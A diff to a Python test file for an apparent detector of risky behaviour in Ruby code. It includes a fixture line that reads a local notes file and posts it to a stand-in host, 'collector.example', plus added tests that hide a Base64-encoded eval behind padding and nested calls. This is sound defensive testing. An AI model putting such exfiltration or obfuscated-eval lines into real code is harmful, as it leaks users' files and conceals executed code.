@@ -196,3 +196,14 @@ def test_a_file_sent_to_an_unknown_host_warns_as_in_python() -> None:
         'data = File.read(ARGV[0] || "report.csv")\n'
         'Net::HTTP.post(URI("https://collector.example/in"), File.read("notes/today.txt"))\n')})
     assert found.get("capabilities.network-send") == "warn"
+
+
+def test_padding_before_the_payload_does_not_hide_it() -> None:
+    src = 'x = y + "a" + "b"\n' * 12_000 + 'eval(Base64.decode64("cHV0cyAx"))\n'
+    assert facts(src)[DYNAMIC_EXEC][0].value == "puts 1"
+
+
+def test_nested_calls_cannot_spend_the_budget_of_the_rest_of_the_file() -> None:
+    src = "".join(f"def f{i}(a)\n" + f"  f{i + 1}(a)\n" * 20 + "end\n" for i in range(6))
+    src += "def f6(a)\n  a\nend\nf0(1)\neval(Base64.decode64(\"cHV0cyAx\"))\n"
+    assert facts(src)[DYNAMIC_EXEC][0].value == "puts 1"
